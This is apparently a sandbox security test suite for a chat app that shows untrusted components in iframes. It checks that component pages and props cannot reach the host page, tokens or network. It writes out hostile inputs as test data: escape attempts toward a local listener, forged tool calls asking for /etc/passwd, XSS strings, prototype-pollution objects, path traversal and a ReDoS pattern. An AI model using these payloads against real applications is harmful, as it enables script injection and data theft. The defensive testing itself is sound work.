// What a page of a component and the props of an agent try, and that nothing of it reaches this page, the token or the network.

import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import { after, test } from 'node:test'

import { inChat, showComponents } from './componentViews.js'
import { composer, conversation, eventually, session, workbench } from './fixture.js'
import { install, page as odd, show } from './ownViews.js'
import { Daemon, close, open } from './support.js'

after(close)

/** Somebody on the network who notes everything that comes. */
async function stranger() {
  const came = []
  const server = createServer((request, response) => {
    came.push(request.url)
    response.setHeader('access-control-allow-origin', '*')
    response.end('taken')
  })
  server.on('upgrade', (request, socket) => {
    came.push(request.url)
    socket.destroy()
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { came, url: `http://127.0.0.1:${server.address().port}`, end: () => server.close() }
}

/** Each way, by name; `done` is what it got, anything else is nothing. */
const ways = (elsewhere, daemon) => `
  const ELSEWHERE = '${elsewhere}', DAEMON = '${daemon}'
  const soon = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 3000))])
  const loaded = (element, source, property = 'src') => new Promise((resolve) => {
    element.onload = () => resolve('loaded')
    element.onerror = () => resolve(undefined)
    element[property] = source
    document.body.append(element)
  })
  const WAYS = {
    'the DOM around it': () => parent.document.body.innerHTML,
    'the DOM at the top': () => top.document.title,
    'the element it stands in': () => frameElement?.outerHTML,
    'a global of the page': () => parent.localStorage ?? parent.api,
    'its address': () => parent.location.href,
    'a cookie': () => document.cookie,
    'setting a cookie': () => { document.cookie = 'a=1'; return document.cookie },
    'local storage': () => localStorage.length + 1,
    'session storage': () => sessionStorage.length + 1,
    'a database': () => new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('open'); open.onerror = reject }),
    'caches': () => caches.open('x'),
    'a service worker': () => navigator.serviceWorker.register('page.js'),
    'a worker': () => new Promise((resolve, reject) => { const worker = new Worker('page.js'); worker.onmessage = resolve; worker.onerror = reject }),
    'a shared worker': () => new Promise((resolve, reject) => { const worker = new SharedWorker(DAEMON + '/static/worker.js', 'turnloom'); worker.port.onmessage = resolve; worker.onerror = reject; worker.port.start() }),
    'a channel': () => { new BroadcastChannel('turnloom').postMessage('x') },
    'a popup': () => window.open(ELSEWHERE + '/popup'),
    'a link to a popup': () => { const a = document.createElement('a'); a.href = ELSEWHERE + '/link'; a.target = '_blank'; document.body.append(a); a.click() },
    'going away with the page': () => { top.location.href = ELSEWHERE + '/top' },
    'a link to the top': () => { const a = document.createElement('a'); a.href = ELSEWHERE + '/toplink'; a.target = '_top'; document.body.append(a); a.click() },
    'going away with a neighbour': () => { for (let n = 0; n < parent.frames.length; n++) if (parent.frames[n] !== self) parent.frames[n].location = ELSEWHERE + '/neighbour' },
    'words in a dialog': () => confirm('x'),
    'code from text': () => (0, eval)('1'),
    'asking elsewhere': () => fetch(ELSEWHERE + '/fetch', { mode: 'no-cors' }),
    'asking the daemon': () => fetch(DAEMON + '/api/sessions', { credentials: 'include' }).then((answer) => answer.text()),
    'an old request': () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.onload = resolve; request.onerror = reject; request.open('GET', ELSEWHERE + '/xhr'); request.send() }),
    'a beacon': () => { navigator.sendBeacon(ELSEWHERE + '/beacon', 'x') }, // it says yes before anybody has looked
    'a socket': () => new Promise((resolve, reject) => { const socket = new WebSocket(ELSEWHERE.replace('http', 'ws') + '/socket'); socket.onopen = resolve; socket.onerror = reject }),
    'a socket of the daemon': () => new Promise((resolve, reject) => { const socket = new WebSocket(DAEMON.replace('http', 'ws') + '/api/ws'); socket.onopen = resolve; socket.onerror = reject }),
    'events': () => new Promise((resolve, reject) => { const source = new EventSource(ELSEWHERE + '/events'); source.onopen = resolve; source.onerror = reject }),
    'a picture': () => loaded(new Image(), ELSEWHERE + '/picture'),
    'a script': () => loaded(document.createElement('script'), ELSEWHERE + '/script'),
    'an import': () => import(ELSEWHERE + '/import'),
    'a style': () => { const link = document.createElement('link'); link.rel = 'stylesheet'; return loaded(link, ELSEWHERE + '/style', 'href') },
    'a preload': () => { const link = document.createElement('link'); link.rel = 'preload'; link.as = 'image'; return loaded(link, ELSEWHERE + '/preload', 'href') },
    'a font': () => new FontFace('x', 'url(' + ELSEWHERE + '/font)').load(),
    'a frame inside': () => new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = ELSEWHERE + '/inside'; frame.onload = () => { try { resolve(frame.contentWindow.length >= 0 && undefined) } catch { resolve(undefined) } }; document.body.append(frame) }),
    'a base': () => { const base = document.createElement('base'); base.href = ELSEWHERE; document.head.append(base); return document.baseURI.startsWith(ELSEWHERE) || undefined },
    'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
    'the place': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    'the clipboard': () => navigator.clipboard.writeText('x').then(() => 'written'),
    'notifications': async () => (await Notification.requestPermission()) === 'granted' || undefined,
  }
  const attempt = async (work) => {
    try { const got = await soon(work()); return got === undefined || got === null || got === '' || got === false ? 'nothing' : 'done' } catch { return 'nothing' }
  }
  begin().then(async () => {
    const tried = {}
    await Promise.all(Object.entries(WAYS).map(async ([name, work]) => { tried[name] = await attempt(work) }))
    document.getElementById('p').textContent = JSON.stringify(tried)
  })
`

// What is refused is said in the console, so this page is not one on which nothing goes wrong.
test('a page of a component tries everything, and reaches nothing', async (t) => {
  const daemon = await Daemon.start()
  const other = await stranger()
  t.after(() => other.end())
  t.after(() => daemon.end())
  await install(daemon, 'tries', odd(ways(other.url, daemon.url)))
  await install(daemon, 'neighbour', odd(`begin()`))
  await daemon.session('tries')
  const { page, context } = await open(daemon, { hash: session('tries') })
  t.after(() => context.close())
  await composer(page).waitFor()
  const popups = []
  context.on('page', (opened) => popups.push(opened.url()))
  const cookies = JSON.stringify(await context.cookies())
  const address = page.url()
  await show(daemon, 'tries', 'n', 'neighbour', 'chat', { title: 'Neighbour' })
  const neighbour = conversation(page).getByRole('region', { name: 'Neighbour' }).locator('iframe').contentFrame()
  await neighbour.getByText('here').waitFor()
  await show(daemon, 'tries', 't', 'tries', 'chat', { title: 'Tries' })
  const view = conversation(page).getByRole('region', { name: 'Tries' }).locator('iframe').contentFrame()
  const text = () => view.locator('#p').innerText()
  await eventually('it has tried all', async () => (await text()).startsWith('{'))
  const tried = JSON.parse(await text())
  assert.deepEqual(Object.entries(tried).filter(([, got]) => got !== 'nothing'), [])
  assert.ok(Object.keys(tried).length > 35)
  assert.deepEqual(other.came, [], 'nobody elsewhere has heard anything')
  assert.deepEqual(popups, [])
  assert.equal(page.url(), address)
  assert.equal(JSON.stringify(await context.cookies()), cookies)
  assert.equal(await neighbour.locator('#p').innerText(), 'here', 'its neighbour is where it was')

  // Whoever goes elsewhere itself gets nowhere, and is ended.
  const leaving = {
    form: `const form = document.createElement('form'); form.action = '${other.url}/form'; form.method = 'post'; document.body.append(form); form.submit()`,
    address: `location.href = '${other.url}/address?' + document.body.textContent`,
    workbench: `location.href = '${daemon.url}/'`,
    api: `location.href = '${daemon.url}/api/sessions'`,
    early: `location.href = '${daemon.url}/api/sessions'`,
    refresh: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${other.url}/refresh'; document.head.append(meta)`,
  }
  for (const [name, script] of Object.entries(leaving)) {
    // One that leaves before it was loaded is never seen to arrive: it is ended because it does not answer.
    const [when, ended] = name === 'early' ? ['', /It (does not answer any more|went to another page)/] : ['await whole;', /It went to another page/]
    await install(daemon, name, odd(`const whole = new Promise((resolve) => addEventListener('load', resolve)); begin().then(async () => { ${when} ${script} })`))
    await show(daemon, 'tries', name, name, 'chat', { title: `By ${name}` })
    const card = conversation(page).getByRole('region', { name: `By ${name}` })
    await card.scrollIntoViewIfNeeded()
    await card.getByText(ended).waitFor()
  }
  assert.deepEqual(other.came, [])
  assert.equal(page.url(), address)
  await composer(page).fill('still here')
  assert.equal(await composer(page).inputValue(), 'still here')
})

test('a page cannot speak for another, nor for the person', async (t) => {
  const daemon = await Daemon.start()
  t.after(() => daemon.end())
  const forge = `
    const call = { jsonrpc: '2.0', id: 'host-1', method: 'tools/call', params: { name: 'turn', arguments: { forged: true } } }
    begin().then(async () => {
      for (let n = 0; n < parent.frames.length; n++) if (parent.frames[n] !== self) {
        parent.frames[n].postMessage({ jsonrpc: '2.0', method: 'ui/notifications/tool-input', params: { arguments: { forged: true } } }, '*')
        parent.frames[n].postMessage(call, '*')
      }
      const answers = [
        await ask('tools/call', { name: '__proto__', arguments: {} }),
        await ask('tools/call', { name: 'resolve', arguments: { value: { forged: true } } }),
        await ask('tools/call', { name: 'get_state' }),
        await ask('resources/read', { uri: 'file:///etc/passwd' }),
        await ask('sampling/createMessage', {}),
        await ask('ui/request-display-mode', { mode: 'fullscreen' }),
      ]
      const acts = await Promise.all(Array.from({ length: 30 }, (_, n) => ask('tools/call', { name: 'turn', arguments: { n } })))
      document.getElementById('p').textContent = JSON.stringify({ answers: answers.map(({ result, error }) => result ?? error.code), refused: acts.filter(({ error }) => error).length })
    })`
  await install(daemon, 'forges', odd(forge, { resolves: { type: 'object' } }))
  await install(daemon, 'victim', odd(`globalThis.heard = ({ params }) => { document.getElementById('p').textContent = JSON.stringify(params.arguments ?? {}) }; begin()`))
  await daemon.session('forged')
  const { page, context } = await open(daemon, { hash: session('forged') })
  t.after(() => context.close())
  // What drives the browser counts as a person; here nobody has touched anything.
  await page.addInitScript(() => Object.defineProperty(Navigator.prototype, 'userActivation', { get: () => ({ isActive: false }) }))
  await page.reload()
  await composer(page).waitFor()
  const inFrame = (title) => conversation(page).getByRole('region', { name: title, exact: true }).locator('iframe').contentFrame().locator('#p')
  await show(daemon, 'forged', 'v', 'victim', 'chat', { title: 'Victim', honest: true })
  await eventually('the victim has begun', async () => /honest|\{\}/.test(await inFrame('Victim').innerText()))
  await show(daemon, 'forged', 'f', 'forges', 'chat', { title: 'Forges' })
  await eventually('it has tried all', async () => (await inFrame('Forges').innerText()).startsWith('{'))
  const { answers, refused } = JSON.parse(await inFrame('Forges').innerText())
  assert.deepEqual(answers, [-32602, -32602, -32602, -32601, -32601, { mode: 'inline' }])
  assert.equal(refused, 10, 'only so much at once')
  assert.doesNotMatch(await inFrame('Victim').innerText(), /forged/)
  assert.equal(await page.getByRole('region', { name: 'Canvas' }).count(), 0)
  const callbacks = (await daemon.events('forged')).filter(({ type }) => type === 'component_callback')
  assert.deepEqual(callbacks.map(({ data }) => data.component_id).filter((id) => id !== 'f'), [])
  assert.equal(callbacks.length, 20)
})

const DEEP = (depth) => Array.from({ length: depth }).reduce((inner) => ({ inner }), 'end')
const HTML = '<img src=x onerror="window.hacked=true"><script>window.hacked=true</script><iframe src="javascript:parent.hacked=true"></iframe>'
const LINK = 'javascript:window.hacked=true'

workbench('props are data, whatever is in them', async (daemon, openPage) => {
  const page = await openPage({ sse: true })
  await page.evaluate(() => (window.hacked = false))
  const asked = []
  page.on('request', (request) => asked.push(request.url()))
  const texts = { title: HTML, description: HTML, onclick: LINK, style: 'position:fixed;inset:0', class: 'skip', dangerouslySetInnerHTML: { __html: HTML } }
  const given = {
    table: { columns: [{ key: '__proto__', label: HTML }, { key: 'a', type: 'link' }], rows: [JSON.parse('{"__proto__":{"polluted":true},"a":"javascript:window.hacked=true"}'), { a: HTML }] },
    chart: { type: 'bar', data: [{ x: HTML, y: 1 }, { x: 'b', y: 1e308 }, { x: 'c', y: -1e308 }], colors: ['#123456'], x_label: HTML },
    tree: { nodes: [{ label: HTML, detail: HTML, expanded: true, children: [DEEP(3), { label: LINK }].filter(({ label }) => label) }] },
    markdown: { text: `${HTML}\n\n[click](${LINK}) ![x](https://elsewhere.invalid/p.png) <a href="${LINK}">x</a>` },
    search_results: { query: HTML, results: [{ title: HTML, url: 'https://elsewhere.invalid/', snippet: HTML }] },
    key_values: { items: [{ label: HTML, value: LINK, kind: 'link' }, { label: 'deep', value: DEEP(28) }, { label: 'long', value: 'x'.repeat(100_000) }] },
    form: { schema: { type: 'object', properties: { constructor: { type: 'string', title: HTML, default: HTML, pattern: '(a+)+$' } } } },
    image: { src: 'data:image/svg+xml;base64,' + Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hacked=true"><script>parent.hacked=true</script></svg>`).toString('base64'), alt: HTML },
    weather: { location: HTML, temperature: 1e300, condition: '__proto__' },
    file_list: { files: [{ path: HTML, note: HTML }, { path: '../../etc/passwd', blob: '../../api/sessions' }] },
    timeline: { events: [{ at: 'never', title: HTML }] },
    progress: { value: -1e308, max: 0, label: HTML },
    metrics: { metrics: [{ label: HTML, value: HTML, trend: [1e308, -1e308] }] },
    plan_editor: { steps: [HTML, { description: HTML, detail: LINK }] },
    approval: { action: HTML, details: `[x](${LINK})`, command: HTML },
    code_diff: { path: HTML, diff: `--- a\n+++ b\n@@ -1 +1 @@\n-${HTML}\n+${LINK}\n` },
    json: { value: JSON.parse(`{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"html":${JSON.stringify(HTML)}}`) },
    map: { points: [{ lat: 89.9999, lon: 180, label: HTML, value: 1e308 }] },
    nobody_knows: {},
  }
  const blocks = Object.entries(given).map(([name, props]) => inChat(name, name, { ...texts, title: `T ${name}`, actions: [{ action: '__proto__', label: HTML, payload: { html: HTML } }], ...props }))
  await showComponents(daemon, page, 'props', { blocks })
  for (const name of Object.keys(given)) await conversation(page).getByRole('region', { name: `T ${name}`, exact: true }).waitFor()
  await eventually('all of it is drawn', async () => (await page.locator('.skeleton').count()) === 0)
  assert.equal(await page.evaluate(() => window.hacked), false)
  assert.equal(await page.evaluate(() => ({}).polluted), undefined)
  assert.equal(await page.locator('[role=log] :is(script, iframe, object, embed, a[href^="javascript" i], img[src^="http"], [onclick], [onerror])').count(), 0)
  assert.deepEqual(asked.filter((url) => !url.startsWith(daemon.url) && !/^(data|blob):/.test(url)), [])
  assert.equal(await page.evaluate(() => [...document.querySelectorAll('.component [style]')].some((element) => getComputedStyle(element).position === 'fixed')), false)
  await eventually('nothing is too wide', () => page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth))
})
